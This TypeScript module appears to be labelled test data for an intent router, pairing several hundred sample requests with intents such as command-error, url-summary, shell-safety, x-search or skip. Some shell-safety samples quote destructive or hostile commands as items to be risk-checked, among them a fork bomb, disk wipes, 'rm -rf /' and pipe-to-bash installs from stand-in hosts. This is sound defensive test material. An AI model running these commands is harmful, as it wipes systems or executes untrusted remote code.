/**
 * Needs as people and agents put them, each with what it means. The first word
 * of a line is the intents in any order, or `skip`.
 *
 * @module
 */

import type { Intent } from "../offer.ts";

/** A need and what it means; empty for a need that nothing here serves. */
export interface Phrasing {
  /** As it was put. */
  readonly need: string;
  /** What must be found, no more and no less. */
  readonly intents: readonly Intent[];
}

/** Every phrasing. */
export function phrasings(): Phrasing[] {
  return LINES.split("\n").map((line) => line.trim()).filter((line) =>
    line !== ""
  ).map((line) => {
    const [, label = "", need = ""] = /^(\S+)\s+(.*)$/.exec(line) ?? [];
    return {
      need,
      intents: label === "skip" ? [] : label.split(",") as Intent[],
    };
  });
}

const LINES = `
command-error My npm install keeps failing with ERESOLVE and I have no idea why
command-error fix this: bash: kubctl: command not found
command-error The build broke in CI, here is the log. What went wrong?
command-error Diagnose a Python traceback: ModuleNotFoundError: No module named 'requests'
command-error docker compose up exits with code 137
command-error why does cargo build say error[E0502]
command-error git push was rejected (non-fast-forward), what is the next command?
command-error my tests fail on GitHub Actions but pass locally
command-error need root cause and next command for a failed deployment pipeline
command-error Agent needs a recovery plan for a crashed pytest run
command-error TypeError: Cannot read properties of undefined (reading 'map') in my React app
command-error The terminal says permission denied when I run ./deploy.sh
command-error how do I get past EADDRINUSE port 3000
command-error please debug this stack trace from our Java service
command-error I can't install numpy, gcc returns exit status 1
command-error kubectl apply fails: ImagePullBackOff
command-error what does "fatal: not a git repository" mean and how do I fix it
command-error Something is wrong with my makefile, make stops with undefined reference to main
command-error make my webpack build work again, it throws a heap out of memory
command-error terraform apply errors out, interpret the message
command-error tsc reports TS2307, need a fix
command-error my script dies with a segfault
command-error resolve failing step in a workflow run; evidence: command, stderr, environment
command-error given a command and its stderr return a repair receipt
command-error pip won't install torch on python 3.13
command-error systemd service refuses to start after upgrade, journalctl shows exit-code 203
command-error The migration failed halfway. Root cause?
command-error I need a deterministic diagnosis of a failed shell command with a retry plan
command-error go: module lookup disabled error while building, help
command-error Getting "connection refused" from postgres in docker, how to solve?
command-error My Rails server crashes at boot
command-error vite: command does not start, unexpected token error
command-error troubleshoot apt-get: unable to locate package
command-error it works on my machine but the container exits with 127
command-error Not a search question. My gradle build fails with a compile error.
command-error node: heap limit reached, process was killed, what now
command-error figure out why jest hangs and never finishes the test suite
command-error ssh: Permission denied (publickey) when cloning the repo
command-error my agent ran a command and it failed; I want to know the next command to try
command-error can you tell me what is causing this compiler error?
url-summary Summarize https://example.com/blog/post
url-summary give me the gist of this article: https://news.example.org/a/1
url-summary TL;DR of https://docs.deno.com/runtime please
url-summary What does https://www.rfc-editor.org/rfc/rfc9110.html say?
url-summary I have a link and want a short summary of the page
url-summary fetch the title and a short excerpt from a public web page
url-summary get page title plus up to 420 characters of text for a URL
url-summary what is this page about? https://example.com/pricing
url-summary Need a quick digest of a news article online
url-summary key points of the blog post at example.com/2026/agents
url-summary extract the headline and lead text of a webpage
url-summary read this url and tell me the main points
url-summary my agent has a list of search results and needs a brief of one page before deciding to open it, summary of the link
url-summary condense the landing page at https://shop.example.com into a few sentences
url-summary one-paragraph overview of a Wikipedia page
url-summary Don't translate it, just summarize this web page https://example.fr
url-summary summarise the release notes on this website
url-summary url to summary, public page, no login
url-summary Summary of the documentation page, without rendering javascript
url-summary article summary: https://example.net/story about youtube video trends
url-summary I want a recap of https://example.dev/changelog
url-summary retrieve title and text snippet for https://example.org
url-summary I don't want to read this whole article, short version? https://example.com/long
url-summary quick synopsis of a press release on the web, I have the link
url-summary skim https://example.com/paper.html and tell me what it is about
shell-safety Is it safe to run rm -rf node_modules?
shell-safety how dangerous is curl https://get.example.com | sh
shell-safety check this bash command before I run it
shell-safety Will this shell one-liner delete my data?
shell-safety classify the risk of a terminal command
shell-safety assess a command's risk level before my agent executes it
shell-safety should I run "sudo chmod -R 777 /" on my server?
shell-safety Vet this PowerShell command: Remove-Item -Recurse C:\\temp
shell-safety a safer alternative to git push --force
shell-safety is dd if=/dev/zero of=/dev/sda destructive
shell-safety need a guardrail that rates shell commands prior to execution
shell-safety I found a shell script on a forum; is it malicious?
shell-safety what could go wrong, is it risky to run git reset --hard
shell-safety Could \`find . -name "*.log" -delete\` do any damage?
shell-safety risk assessment for a command line produced by an LLM
shell-safety Do not run it, only tell me if this command is harmful
shell-safety okay to run kubectl delete ns staging? risk please
shell-safety pre-execution check of a bash command
shell-safety is this install script trustworthy before I pipe it into bash
shell-safety tell me the blast radius of terraform destroy
shell-safety flag dangerous shell commands
shell-safety before approving the agent's terminal command, evaluate it
shell-safety mkfs.ext4 /dev/sdb1 – dangerous?
shell-safety would \`git clean -fdx\` lose my work? is it risky
service-visibility How discoverable is this service to AI agents?
service-visibility Get the agent visibility report
service-visibility aggregate report of machine discoverability and payment readiness of this service
service-visibility Is your API ready for agent payments? Give me the readiness score
service-visibility payment readiness score of pennyworth
service-visibility I want to know how well agents can find and pay this api, discovery and payment readiness
service-visibility show visibility gaps of your service for machine clients
service-visibility what is the machine discovery score of this service
service-visibility privacy-safe visibility report about this provider, no raw IPs
service-visibility how visible is this platform to autonomous agents
service-visibility agent visibility and payment readiness, aggregated only
service-visibility does this service have x402 discovery gaps and what is the next fix for its visibility
x-search Build a Twitter search query for posts about deno
x-search I need an X search URL with at least 100 likes and no links
x-search find tweets about battery startups without giveaways
x-search create a filtered search link for X: rust jobs, english only
x-search search X for people complaining about slow CI
x-search advanced search on Twitter from @denoland since January
x-search compose a query with min_faves:50 -filter:links lang:en
x-search turn keywords into a social search query and URL
x-search look for recent posts on X mentioning our competitor
x-search social media search string excluding spam terms
x-search see what people on X are saying about x402
x-search generate search operators for Twitter that remove crypto promo noise
x-search I don't want you to scrape anything, just build the Twitter search URL
x-search xsearch query for "agent payments", live tab
x-search help me search twitter for buying intent around CRM tools
x-search make a boolean search for tweets with images about the eclipse
x-search give me a deep link to X search results for keyword mcp servers
x-search find posts on x.com from last week about sqlite
x-search build a search query for posts about electric bikes, min 20 likes
x-search Not posting anything: I want a query to find tweets by @jack about bitcoin
command-error,shell-safety npm ERR! EACCES: fix the error, and tell me whether sudo npm install is safe
command-error,url-summary Summarize https://example.com/docs and also diagnose why my docker build fails
shell-safety,x-search check if this shell command is dangerous and build a twitter search query about it
skip What's the weather in Berlin tomorrow?
skip Book me a flight to Lisbon
skip write a poem about the sea
skip translate this page to Spanish https://example.com
skip take a screenshot of https://example.com
skip summarize this YouTube video https://youtu.be/abc
skip Summarize the attached PDF
skip summarize our meeting notes from Monday
skip summarize this slack thread
skip crawl the whole website and list all pages
skip scrape product prices from https://shop.example.com
skip extract all email addresses from this page
skip shorten this url for me
skip is https://example.com up?
skip is this website safe to visit? https://example.com
skip Audit my website's SEO and visibility on Google
skip how visible is my website to AI agents?
skip run a visibility audit of https://example.com for agents
skip are my competitors discoverable by AI agents
skip give me the IP addresses and user agents of your visitors
skip post a tweet about our launch
skip scrape all tweets from @nasa
skip download my Twitter archive
skip summarize tweets about the election
skip how many followers does @deno_land have
skip DM everyone who mentions our product on X
skip schedule a thread on Twitter
skip search the web for cheap laptops
skip build a SQL query for monthly revenue
skip search LinkedIn for engineers in Vienna
skip write an Elasticsearch query
skip find posts on Reddit about sqlite
skip sentiment analysis of tweets about Tesla
skip solve for x in 2x + 4 = 10
skip Fix my bike's broken chain
skip fix the grammar errors in my essay
skip add error handling to my Python script
skip write unit tests for my node module
skip how do I design a custom 404 error page
skip set up error monitoring for our app
skip why did the stock market crash in 1929
skip what is the margin of error of this survey
skip refactor my code to be faster
skip review my pull request
skip teach me bash
skip write me a bash script to rename files
skip give me a command to list open ports
skip run this command on my server for me: ls -la
skip run my code in a sandbox
skip penetration test of my server
skip audit my smart contract for vulnerabilities
skip scan my dependencies for CVEs
skip is it safe to eat raw eggs
skip is Berlin a safe city
skip credit risk of this portfolio
skip should I buy Shell stock, is it risky
skip is this email phishing
skip scan this file for viruses
skip generate an image of a penny
skip convert 10 USD to EUR
skip what time is it
skip I need a logo
skip send an email to my boss
skip transcribe this podcast
skip write a summary section for my resume
skip write a blog post about shell commands
skip explain quantum computing
skip play some music
skip compare two laptops
skip transfer 5 USDC to 0x123
skip find me a plumber
skip I already fixed the build error, thanks
skip I do not need a summary of this page
skip not looking for a Twitter search
skip summarize this text: the quick brown fox jumps over the lazy dog
skip log in to my bank and summarize the page
skip summarize the article behind the paywall
skip open the page in a headless browser and summarize it
skip summarize http://localhost:3000/admin
skip read my inbox and give me the highlights
skip monitor Twitter for mentions of my brand in real time
skip monitor my servers and alert me when a deploy fails
skip execute the fix on production automatically
skip hire a developer to fix bugs
skip medical advice: my knee is broken
skip delete my old tweets
skip get me more followers on X
skip x-ray image analysis
skip convert this bash script to python
skip explain what the ls command does
skip hello
skip help
skip test
skip ?
skip I need data
skip do something useful
skip verify this JSON signature
skip publish information to the exchange
skip buy me a coffee
skip check my spelling
skip who are you
skip tell me a joke about programmers
skip rank my startup on Product Hunt
skip compare Kubernetes and Nomad
skip recommend a linter for TypeScript
skip what is the latest version of Deno
skip draft a reply to this tweet
skip create a dashboard for error rates
skip generate a QR code for my link
skip find vulnerabilities in this repository
skip improve the performance of my SQL database
skip visibility of Mars tonight
skip supply chain visibility report for our warehouses
skip cloud cost visibility
command-error I ran \`yarn dev\` and it just spat out a wall of red text, what should I do next?
command-error Our Jenkins pipeline has been failing since this morning with a weird linker error
command-error whats wrong with this: zsh: no such file or directory: ./configure
command-error Explain the cause of "ImportError: libssl.so.1.1" and how to recover
command-error the agent hit a nonzero exit status while running make test; produce a diagnosis
command-error helm upgrade failed: another operation is in progress. fix?
command-error I keep seeing "CORS error" in the browser console when my app calls the API, how do I solve it
command-error Could you help me understand why \`git rebase\` stopped with conflicts
command-error docker: Cannot connect to the Docker daemon
command-error looking for someone to tell me what this compiler error means
command-error post-mortem for failed CI job: need cause, next step and prevention
command-error Unity build crashes on Android with an out of memory error
command-error broken lockfile after merge, pnpm refuses to install
command-error psql: FATAL: role "app" does not exist
command-error my cron job silently fails, can you diagnose it?
command-error deploy to vercel doesn't work anymore
command-error Error: Cannot find module 'express'
command-error recover from interrupted apt upgrade, dpkg was interrupted error
command-error tool call failed with ENOENT, suggest next command
command-error i'm stuck, eslint crashes every time
command-error xcodebuild exited with 65, root cause please
command-error failing unit tests in CI, want a fix suggestion
command-error ansible playbook unreachable error on host web1
command-error command: "pip install -r requirements.txt" error: "ResolutionImpossible"
command-error get structured repair steps for a stack trace
command-error There's an exception in my Spring Boot app when it starts. Why?
command-error "make: *** [all] Error 2" what does it mean
command-error why is my python script throwing a KeyError
command-error help me unblock a stuck terraform state lock error
command-error failed to push some refs to origin
url-summary Could you boil https://example.com/essay down to two sentences?
url-summary whats on https://example.org/about
url-summary I need the title of a web page and the beginning of its text
url-summary before I open this link, what is it about? https://example.io/x
url-summary give a brief of the following page: https://en.wikipedia.org/wiki/Deno
url-summary short abstract of an online article
url-summary page digest for https://docs.example.com/api
url-summary deterministic text extraction of a public webpage, title + summary
url-summary summary needed: www.example.com/newsroom/item
url-summary tldr this link
url-summary Read https://example.com/announcement and give me the highlights
url-summary input: a URL. output: title and summary.
url-summary summarise what the page at example.net says
url-summary I'm researching and need summaries of web pages, one URL per call
url-summary sum up this blog post for me https://example.blog/post
url-summary fetch https://example.com and return its title and a snippet
url-summary a cheap way to get a page's title and first few hundred characters
url-summary Give me the short version of this news story: https://news.example.com/1
url-summary is this article worth reading? https://example.com/a gist please
url-summary no AI rewriting, only an extractive summary of a URL
shell-safety can I trust this curl | bash installer?
shell-safety Is the following command harmful: :(){ :|:& };:
shell-safety my LLM wants to execute \`rm -rf ~/.cache\`, how risky is that
shell-safety score the danger of a bash command
shell-safety is there anything dangerous in this one-liner?
shell-safety validate a shell command before executing it
shell-safety what happens if I run sudo rm -rf / --no-preserve-root, is it dangerous
shell-safety does this command destroy anything? chmod 000 /etc/passwd
shell-safety Risk check for shell commands suggested by an AI
shell-safety safer version of chmod 777
shell-safety double check that this terminal command won't wipe my disk
shell-safety is piping wget into sh a bad idea
shell-safety screen commands for destructive behaviour before my coding agent runs them
shell-safety rate how destructive: git push origin +main --force
shell-safety is it ok to run this command in production: docker system prune -a
shell-safety could this PowerShell script harm my computer
shell-safety pre-flight risk level (low/medium/high/critical) for a bash command
shell-safety I'm scared to run this command, can you check it
shell-safety security check of a shell one liner before I paste it
shell-safety Should we let the agent run kubectl delete pvc --all? Is it safe?
service-visibility report on how discoverable your API is for machines
service-visibility does your service get found by agents?
service-visibility readiness report: can agents discover and pay this service
service-visibility aggregate visibility metrics for this service, nothing about individual visitors
service-visibility machine-discovery report
service-visibility I'd like your agent visibility score
service-visibility how ready is this API for x402 payments and agent discovery?
service-visibility what discovery gaps does this service have
service-visibility visibility self-assessment of the service you run, for bots and agents
service-visibility which of your discovery documents are missing? report on machine readable surfaces of this service
x-search I want a Twitter query that filters out replies and links
x-search craft an X search for "looking for a designer" posts in german
x-search how can I find tweets from people asking for a Notion alternative
x-search search url for tweets from:openai since:2026-01-01
x-search exclude airdrop spam from my Twitter search
x-search show me how to search X for mentions of our library in the last week
x-search need query string for social posts about climate tech, min 100 faves
x-search build an x.com/search link with keywords, no retweets
x-search noise-filtered search on X for AI agents payments
x-search Find recent tweets mentioning "x402" in English
x-search construct advanced Twitter search with exact phrase and excluded words
x-search query builder for X posts
x-search Who is talking about Bun on Twitter? give me a search link
x-search prepare a live search URL for the X platform on the topic "heat pumps"
x-search I'm trying to discover leads on Twitter, need good search queries
skip What is the capital of France?
skip order a pizza
skip give me the transcript of https://www.youtube.com/watch?v=abc
skip summarise this podcast episode
skip summarize the email thread from Anna
skip summarize my GitHub repository
skip turn this article into a PDF https://example.com/a
skip get all the images from https://example.com
skip compare the two articles https://a.example and https://b.example
skip rewrite this article in a friendlier tone https://example.com
skip what is the sentiment of this article https://example.com
skip watch https://example.com for changes
skip check accessibility of https://example.com
skip get the status code of https://example.com
skip find backlinks to example.com
skip fill in the form at https://example.com/contact
skip write an essay about Rust
skip summarize this book
skip create an outline for my presentation
skip give me an overview of machine learning
skip quick overview of today's news
skip is my password safe
skip is this restaurant safe for people with nut allergies
skip how safe is a Tesla
skip is this npm package safe to install
skip what is the safest way to store private keys
skip does this Python code have security risks?
skip write a safe bash script that backs up my home folder
skip what is the command to delete a folder in linux
skip explain the tar command
skip risk analysis for a construction project
skip trust fund management
skip sandbox my command and show what it changes
skip analyze this binary for malware
skip is port 22 open on my server
skip my printer is not working
skip my washing machine shows error E18
skip fix the leak in my roof
skip correct the errors in this translation
skip why did Theranos fail
skip why do startups fail
skip what are common HTTP error codes
skip write documentation for my error codes
skip create a bug report template
skip prioritize the bugs in our backlog
skip build me a REST API
skip set up CI for my project
skip deploy my app to AWS
skip install Docker on my laptop
skip upgrade to Node 22
skip generate test data
skip how do I create a git branch
skip how much does an AWS lambda cost
skip is my store visible to ChatGPT shopping
skip improve discoverability of our podcast
skip make my MCP server discoverable by agents
skip audit our API's payment readiness
skip list who paid you and their wallet addresses
skip show raw access logs
skip network visibility tool for Kubernetes
skip how visible is the moon today
skip write a viral tweet
skip reply to the customers who tweeted at us
skip collect 10,000 tweets for a dataset
skip stream tweets in real time
skip what is Elon Musk's follower count on X
skip analyze engagement of our Twitter posts
skip create a social media calendar
skip post this on X and Facebook
skip search Instagram for cat photos
skip google search query for hotels in Rome
skip search my Gmail for invoices
skip optimise this Postgres query
skip plot x against y
skip find the value of x
skip who founded Twitter
skip embed a tweet on my site
skip summarize what people tweet about Apple
skip follow all Deno contributors on Twitter
skip find a recipe for bread
skip find a job in Vienna
skip look up a phone number
skip I changed my mind, no search needed
skip Please do not summarize anything
skip this is not about a failing command
skip My problem is solved already, nothing to fix
skip not a shell question
skip I don't need the visibility report
skip we no longer need a tweet search query
skip store a note for another agent
skip sign this message with my wallet
skip bridge USDC from Base to Ethereum
skip what's your refund policy
skip how do I pay you
skip verify the evidence bundle
skip predict the price of ETH
skip draw a diagram of our architecture
skip count the words in this text
skip fix
skip error
skip url
skip search
skip command
skip asdf qwer
command-error The \`bun test\` run went red after I bumped a dependency. Help me see why.
command-error WARN deprecated ... then "sh: 1: tsc: not found" - how to proceed
command-error got "The term 'node' is not recognized as the name of a cmdlet"
command-error our nightly build is broken
command-error need to know why the container keeps restarting
command-error prisma migrate dev error P3006
command-error "bad interpreter: /bin/bash^M" when executing my script
command-error flutter doctor complains about android licenses
command-error Analyse this CI log and say what to try next
command-error ./gradlew assembleRelease exploded, stack trace attached
command-error request: command_error diagnosis, evidence provided in log field
command-error "ld: symbol(s) not found for architecture arm64"
command-error how to solve 'Address already in use' when launching my server
command-error i deployed and now pods are in CrashLoopBackOff
command-error the linter hook blocks my commit with an error I don't understand
url-summary Please condense this webpage for me: https://example.com
url-summary quick look at a URL: title and text preview
url-summary What is the article at https://example.com/x about?
url-summary I only want the main points of this web article
url-summary page summary as JSON
url-summary cheap link summarizer
url-summary give me two lines on what https://example.com/pricing says
url-summary Produce an extractive summary of a public HTML page given its address
url-summary read the docs page at https://example.dev/docs and summarise
url-summary summarizing urls for a research agent
shell-safety Before I execute: sudo rm /etc/hosts — thoughts on risk?
shell-safety evaluate \`curl -sSL evil.sh | bash\`
shell-safety is there a chance this bash line deletes files?
shell-safety command risk classifier
shell-safety judge if a shell command is destructive
shell-safety can this terminal command break my mac
shell-safety what is the risk level of "chmod -R 777 ."
shell-safety I need to gate agent shell commands by risk
shell-safety does \`git push -f\` count as dangerous
shell-safety verify that a shell snippet is not harmful
service-visibility agent discoverability report for this service
service-visibility How well does this API score on machine discovery?
service-visibility get readiness + visibility scores from the provider about itself
service-visibility are you discoverable via x402 bazaar and MCP?
service-visibility tell me your service's payment readiness
x-search write me a Twitter search query for indie game launches
x-search search on X, keyword "solar", language de, no links
x-search tweets about postgres performance - build the query
x-search where can I see posts on X about layoffs? give me a URL
x-search filter Twitter results to remove engagement bait
x-search X advanced search string for product feedback on Figma
x-search find people on Twitter asking for CRM recommendations
x-search Twitter search with images only, top mode
skip What should I cook tonight?
skip Is it safe to travel to Mexico?
skip fix my sleep schedule
skip my relationship is broken
skip my phone won't charge
skip the elevator is not working
skip summarize War and Peace
skip summarize my last 10 commits
skip can you read this PDF: https://example.com/report.pdf and summarize it
skip generate meta descriptions for my pages
skip what's the best website builder
skip design a landing page
skip open https://example.com and click the buy button
skip convert https://example.com to markdown
skip get stock price of Apple
skip link my account
skip write release notes for my app
skip explain recursion
skip how do I exit vim
skip list files in the current directory
skip generate a regex for emails
skip optimize my Dockerfile
skip run npm install
skip build my project
skip what does HTTP 404 mean
skip name three sorting algorithms
skip command prompt for writing a novel
skip evaluate the risk of lending to this company
skip food safety command center
skip is sugar dangerous
skip cybersecurity audit for our company
skip classify support tickets by risk
skip harmful content moderation for comments
skip visible light spectrum
skip is your office wheelchair accessible
skip discover new music
skip find my lost phone
skip search for extraterrestrial life
skip query my database
skip create a post about our product
skip who won the match yesterday
skip trending topics on Twitter
skip X marks the spot
skip is Twitter down?
skip buy followers
skip tweet "hello world"
skip count tweets per day about AI
skip get notified when someone tweets my name
skip research paper search on PubMed
skip social media marketing strategy
skip report a bug in your service
skip what is your uptime
skip how do agents work
skip AI payments industry overview
skip x402 tutorial
skip is my API ready for x402?
skip help me list my API in the x402 bazaar
skip summary of x402 protocol
command-error When I do \`npm run build\` I see "Rollup failed to resolve import". Next command?
command-error CI is red: "Process completed with exit code 2". Tell me the root cause
command-error django.db.utils.OperationalError: no such table: auth_user
command-error What's the fix for "fatal: refusing to merge unrelated histories"?
command-error {"task":"diagnose","command":"cargo test","stderr":"thread 'main' panicked at src/lib.rs:10"}
command-error our deploy job timed out and rolled back, need to know what to do next
command-error my container can't reach the database and exits
command-error brew upgrade broke my python install
command-error I got a weird SSL certificate error when running pip
command-error help, my app won't compile after the SDK update
command-error Analyze failure evidence and return repair plan for a terminal command
command-error "Error: listen EADDRINUSE: address already in use :::8080"
command-error a webpack module not found issue, how can I resolve it
command-error my git repo is in a detached head state and I lost commits, what next
command-error Kubernetes pod stuck in Pending, why
command-error what should I type after "npm ERR! code ELIFECYCLE"
command-error bash script fails on line 12 with unexpected end of file
command-error debugging help for a node crash
command-error something in my Dockerfile fails at step 7
command-error I need help understanding a Go panic
url-summary could you tell me what https://example.com/news/42 is saying, briefly
url-summary I would like a summary for this URL
url-summary I have an article link, need three hundred characters of it
url-summary "summarize https://example.com/terms"
url-summary get me the lead paragraph and title from a news site URL
url-summary In a nutshell, what's in https://example.org/paper
url-summary webpage summarization service
url-summary summary of a public blog post, extractive is fine
url-summary agent task: condense search hit https://example.net/a into <= 420 chars
url-summary does anyone offer a url summarizer for agents
url-summary make https://example.com/long-read shorter for me
shell-safety I was told to paste this into my terminal, is it a trap? sudo curl ...
shell-safety will \`rm -r ./build\` delete something important?
shell-safety Need risk level + explanation + safer alternative for a command
shell-safety Is "chmod +x install.sh && ./install.sh" risky?
shell-safety detect destructive commands before execution by an autonomous agent
shell-safety command safety classification
shell-safety how bad is running eval on user input in bash
shell-safety my coworker sent me a one-liner with base64 and bash, is it malicious?
shell-safety is sudo apt autoremove safe
shell-safety would running this command wipe my drive?
shell-safety check whether this PowerShell one-liner is dangerous
shell-safety Is it dangerous to force push?
service-visibility How well can machines discover and pay this service?
service-visibility I need the privacy-safe agent visibility report
service-visibility give me a report about your own machine discoverability
service-visibility are your discovery documents complete for agents?
service-visibility score this API on agent readiness and payment readiness
service-visibility does pennyworth show up for crawlers and agents? report please
x-search build a query to find tweets about solar panels, exclude retweets
x-search Twitter search: people asking for freelance React developers
x-search I want to look up posts on X that mention our startup name but not jobs
x-search create an advanced X search for AI safety papers since 2026-06-01
x-search search link for tweets with more than 500 likes about Rust
x-search Help me write a precise Twitter search
x-search need X search string excluding promo and giveaway spam
x-search find complaints about Comcast on Twitter this week
x-search filter noise from my X search for "AI agents"
x-search how do I search tweets from one account in a date range
skip Can you give me a haircut appointment?
skip summarize the plot of Hamlet
skip tell me about the history of the URL
skip what is a URL
skip what is a shell
skip what is the safest programming language
skip how do shells form on the beach
skip my boss is dangerous
skip risk-free investments
skip command a robot arm
skip my order failed, refund me
skip payment failed on Amazon, what now
skip my flight was cancelled, help
skip fix my resume
skip debug my life
skip wifi is not working at home
skip why is the sky blue
skip how to fix a flat tire
skip my laptop screen is broken
skip my car won't start
skip school exam failed, what to do next
skip translate error messages into French
skip write a better error message for my form
skip log errors to a file in Python
skip how to throw an exception in Java
skip what does exit code mean in general? write a tutorial
skip implement retry with exponential backoff
skip convert a webpage to PDF
skip make a website for my bakery
skip archive this webpage forever
skip find broken links on my site
skip check grammar of this page https://example.com
skip count words on https://example.com
skip get all headings and links from https://example.com
skip classify this article as positive or negative https://example.com
skip summarize all articles on https://example.com
skip summarize my notes
skip summarize this conversation
skip summarize the following text: Once upon a time
skip generate a summary of sales data
skip summarize tweets from @jack
skip build a Twitter bot
skip Twitter API pricing
skip how to delete my Twitter account
skip write a bio for my X profile
skip send a DM on X
skip follow these accounts on Twitter
skip monitor tweets about my company hourly
skip build a search engine
skip search query for PubMed about asthma
skip find posts on Mastodon about gardening
skip find a LinkedIn post about layoffs
skip search for files larger than 1GB
skip search Stack Overflow for a solution
skip is my website payment ready
skip improve my site's agent readiness
skip visibility report for my brand in ChatGPT
skip how do I make my API discoverable
skip give me visibility into my AWS costs
skip report on competitor x402 services
skip security review of my shell scripts repository
skip run a vulnerability scan on example.com
skip is this URL malicious? https://example.com
skip is it safe to click this link
skip is the COVID vaccine safe
skip is it risky to invest in Tesla
skip write a shell command that deletes temp files
skip give me the ffmpeg command to convert mp4 to gif
skip execute ls and show me the output
skip schedule a cron job for me
skip which shell is best
skip explain bash arrays
skip I don't need to check a command, ignore
skip nothing
skip thanks!
skip can you help me?
skip do you have a free trial
skip list your offers
skip what can you do
skip My order never arrived, the delivery failed
skip what is a segmentation fault
skip define stack trace
skip write an exception class in C#
skip how many errors did the pilot make
skip the app store rejected my app, write an appeal
skip review my Terraform code for best practices
skip create a Dockerfile for a node app
skip migrate my database from MySQL to Postgres
skip why is Python popular
skip what port does Postgres use
skip plan a deployment strategy
skip how do I write a GitHub action
skip set up Prometheus monitoring
skip what's new in TypeScript 6
skip explain how Docker works
skip help me choose between npm and pnpm
skip what does the kill command do
skip make my script faster
skip speed up my CI pipeline
skip add a retry to my deploy step
skip generate unit tests for parser.py
skip break my monolith into services
skip kill process on port 3000 for me
skip fail2ban configuration
skip design a crash course on Python
skip build a crash reporting tool
skip crash diet plan
skip unlock my iPhone
skip recover my Gmail password
skip recover deleted photos
skip debug the meaning of this poem
skip solve this equation
skip resolve a dispute with my landlord
skip what does this legal document say
skip what does the fox say
skip what is this song about
skip what is the movie Inception about
skip read my PDF contract and summarize it
skip describe the image at https://example.com/cat.png
skip overview of the French revolution
skip brief me on the Ukraine war
skip summary of the latest AI news
skip title ideas for my blog post
skip write a headline for my article
skip improve the introduction of my essay
skip get the author and publish date of https://example.com/post
skip get all comments from https://example.com/post
skip link to the nearest pharmacy
skip is it worth reading War and Peace
skip which page of the book mentions Ahab
skip make a landing page shorter
skip monitor https://example.com price changes
skip download https://example.com/file.zip
skip is this mushroom safe
skip is it safe to run a marathon with a cold
skip is it safe to run in the park at night
skip should I run for office
skip can I run Doom on my fridge
skip can I run Linux on this laptop
skip risk of running with scissors
skip is my terminal illness dangerous
skip danger of shell fish allergy
skip harmless command for a prank
skip check my command of English
skip rate my command of French
skip classify the risk level of this loan application
skip safe command for deleting cache
skip discover agents for my sports career
skip find real estate agents in Paris
skip how discoverable are exoplanets
skip AI visibility for my startup
skip readiness for marathon
skip payment service for my shop
skip is PayPal down
skip do you accept PayPal
skip visibility settings on Facebook
skip machine learning service
skip report on machine downtime
skip search for the meaning of life
skip find a tweet-sized slogan
skip on x days I work from home
skip X-Files episodes search
skip SpaceX launch schedule
skip search X-rated content
skip find my ex
skip search social security number
skip social media manager wanted
skip post on social media for me
skip find influencers' email addresses on Twitter
skip scrape X for leads
skip reply automatically to tweets mentioning us
skip analyse my Twitter followers
skip Twitter vs Mastodon comparison
skip history of Twitter
skip explain Twitter's algorithm
skip like all tweets from @deno_land
skip get notified of new tweets
skip query language for graphs
skip build a query for BigQuery
skip find posts in my blog about dogs
skip filter spam in my Gmail
command-error I ran git merge and now everything is broken, what's the next step
command-error nginx: [emerg] bind() to 0.0.0.0:80 failed
command-error pytest collected 0 items and exited with an error
command-error What caused this failure? log attached from GitHub Actions
command-error unable to resolve dependency tree
command-error one paid diagnosis of a failing shell command, please
command-error the cargo build command fails to link on macOS
command-error poetry install throws SolverProblemError
command-error my k8s deployment keeps crashing on startup
command-error fix failing tests in my repo, here's the stderr
url-summary produce a TLDR for https://example.com/x?y=1
url-summary summary + title of one public web page
url-summary https://example.com/post - what's it about?
url-summary what are the key takeaways from this blog post: https://blog.example.com/p
url-summary give a short description of the page at https://example.org
url-summary briefly summarise the linked article
shell-safety does rm -rf * pose a threat
shell-safety rate the risk: curl http://x.example/i.sh | sudo bash
shell-safety Should my agent be allowed to run \`git push --force\`?
shell-safety evaluate shell command risk before execution
shell-safety could a simple mv command overwrite my files and is it safe
shell-safety Is this bash safe to run?
service-visibility produce the agent visibility report for this service
service-visibility how is the service's payment readiness?
x-search generate a twitter search link: "open source" CRM lang:en
x-search find people on X who want to buy a used e-bike
x-search compose an X query, phrase "looking for a cofounder", no spam
x-search search recent tweets about deno deploy outages
skip summarise my calendar
skip explain this regex
skip find the best pizza near me
skip what's the command to restart nginx
skip publish a post on X
skip rewrite this shell script in Go
skip scan example.com for open ports
skip get the weather and summarize it
skip evaluate my business plan's risk
skip check if example.com is registered
skip extract tables from https://example.com/report
skip order more printer paper
skip translate tweets from Japanese
skip count my Twitter followers
skip help me prepare for a Kubernetes exam
skip recommend error tracking software
skip pay my electricity bill
skip generate a privacy policy page
skip write a bash one-liner that finds big files
skip tell me whether Tesla stock is safe
command-error As a coding agent I executed \`pnpm build\` in a monorepo and it terminated unsuccessfully with TS2322 in packages/ui; I need one concrete next step.
command-error A user pasted a long log where the Gradle daemon disappeared unexpectedly. What should they do?
command-error Our integration tests have been flaky and now consistently fail with a timeout in CI, give me a likely cause
command-error I tried installing the package globally but got EACCES, what's the safest fix?
command-error Please look at this failure: \`terraform init\` could not load plugin
command-error the python interpreter says IndentationError: unexpected indent
command-error "sh: vite: not found" during docker build
command-error ffmpeg: error while loading shared libraries, how do I resolve that
command-error Next.js hydration error after upgrading, need root cause
command-error My Go tests panic with nil pointer dereference
command-error the pre-commit hook failed and blocks my commit
url-summary My research agent found a promising page, https://example.com/study, and needs to know its content in at most a paragraph before citing it
url-summary For each search result I want the page title and a brief extract, one URL at a time
url-summary Get the essence of this web page: example.org/manifesto
url-summary short blurb about what's at https://example.io
url-summary I need to triage a link someone posted; a two sentence summary of the page would do
url-summary Return {title, summary} for https://example.com/docs/intro
url-summary preview text of a webpage: title and opening text
shell-safety An autonomous agent proposes to run \`find / -name '*.conf' -exec rm {} \\;\` and I want an independent risk rating before allowing it.
shell-safety the installer tells me to run curl -fsSL https://sh.example.dev | bash, should I trust it
shell-safety can \`docker run --privileged -v /:/host\` be dangerous
shell-safety give me a safer alternative to rm -rf /var/log/*
shell-safety tell me if \`history -c && rm ~/.bash_history\` looks suspicious
shell-safety I want to know the danger level of a command line before I approve it
service-visibility Before integrating I want to see how this service scores for agent discovery and payment readiness
service-visibility aggregate machine-discovery and payment readiness numbers for your API
service-visibility Is this API well exposed to agents, which gaps does it have?
x-search I'm hunting for customers on Twitter who complain about slow invoices; build me the search
x-search construct a from:user since/until Twitter query for posts about kernel releases
x-search need an X query, in Japanese, with images, min 200 likes
x-search What's the best search string to find job posts on Twitter for embedded Rust?
x-search exclude bots and giveaways when searching X for "open source funding"
x-search turn "people frustrated with Jira" into a Twitter search URL
